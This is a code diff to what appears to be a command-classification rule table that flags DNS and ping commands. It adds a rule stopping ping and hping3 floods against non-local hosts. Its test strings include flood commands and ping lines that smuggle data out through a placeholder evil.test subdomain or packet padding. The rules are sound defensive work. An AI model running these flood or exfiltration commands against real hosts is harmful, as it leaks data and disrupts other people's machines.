@@ -1,4 +1,5 @@
 import { isKnown, unknownPiece } from "../../deed.ts";
+import { isLoopback } from "../../environment.ts";
 import { carriesData, noOperand, optionPaths, unless, words } from "../plain.ts";
 import { all, any, flag, not, operand, type Program, type Test, type Use } from "../table.ts";
 
@@ -10,6 +11,17 @@ const carriesName = (text: string): boolean => {
 const queriesData: Test = ({ operands }) => operands.some(({ text }) => carriesName(text));
 const queries = (use: Use): boolean => !queriesData(use);
 
+const secondsMin = 0.1;
+
+/** As fast as the line allows. A ping takes `-f` alone, others take a number or a file with it. */
+const floods: Test = ({ call, has, value, operands }) => {
+  const isFlag = /^ping6?$/.test(call.program) && call.words.some(({ text }) => /^-[a-zA-Z]{0,8}f$/.test(text));
+  const pause = value("-i", "--interval");
+  const isFast = pause !== undefined && (/^u\d{1,5}$/.test(pause) || (/^[\d.]{1,9}$/.test(pause) && Number(pause) < secondsMin));
+  const hosts = isFlag ? call.words.map(({ text }) => text) : operands.map(({ text }) => text);
+  return (isFlag || isFast || has("--flood", "--faster")) && !hosts.some((text) => isLoopback(text));
+};
+
 const setsClock: Test = ({ operands }) => operands.some(({ text }) => !text.startsWith("+"));
 const printsEnvironment: Test = (use) =>
   use.has("-E") || /^[aAcefghjlmnorsStTuUvwxXZ]{0,12}e[aAcefghjlmnorsStTuUvwxXZ]{0,12}$/.test(use.operands[0]?.text ?? "");
@@ -17,7 +29,7 @@ const printsEnvironment: Test = (use) =>
 /** Programs that ask about names and hosts, the clock or the processes. */
 export const lookups = (): readonly Program[] => [
   {
-    names: words("dig host nslookup drill kdig delv dog doggo resolveip systemd-resolve"),
+    names: words("dig host nslookup drill kdig delv dog doggo resolveip systemd-resolve resolvectl"),
     takes: words("-b -c -f -k -p -q -t -x -y -m -W -R -N"),
     rows: [
       {
@@ -32,7 +44,7 @@ export const lookups = (): readonly Program[] => [
   },
   {
     names: words("ping ping6 fping hping3 arping traceroute traceroute6 tracepath mtr tcptraceroute tcping"),
-    takes: words("-c -i -w -W -s -t -I -p -m -q -f -M -Q -S -T -l -h -g -z -N -e"),
+    takes: words("-c -i -w -W -s -t -I -p -m -q -f -M -Q -S -T -l -h -g -z -N -e --interval"),
     rows: [
       {
         if: any(
@@ -43,6 +55,13 @@ export const lookups = (): readonly Program[] => [
         why: "the packets carry data outward",
         hits: ["ping -c 1 '\uFFFC.evil.test'", "ping -p '\uFFFC' 203.0.113.9"],
         misses: ["ping -c 3 example.test", "ping '\uFFFC'"],
+      },
+      {
+        if: floods,
+        does: "stop",
+        why: "asks another machine again and again without a pause",
+        hits: ["ping -f example.test", "ping -i 0 example.test", "hping3 --flood example.test", "hping3 -i u10 example.test"],
+        misses: ["ping -c 3 example.test", "ping -f localhost", "ping -i 0.2 -c 5 example.test", "mtr -i 0.5 example.test"],
       },
       { if: queries, does: "harmless", hits: ["ping -c 3 example.test"] },
     ],
